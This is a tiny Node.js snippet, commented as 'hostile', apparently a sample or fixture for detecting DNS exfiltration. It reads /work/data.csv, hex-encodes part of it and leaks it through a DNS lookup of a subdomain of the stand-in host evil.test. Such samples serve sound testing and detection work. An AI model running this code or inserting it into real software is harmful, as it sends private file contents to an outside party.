// hostile: DNS lookup of a name carrying file contents
const dns = require('dns');
const fs = require('fs');
const data = fs.readFileSync('/work/data.csv').toString('hex').slice(0, 60);
dns.lookup(data + '.x.evil.test', () => {});
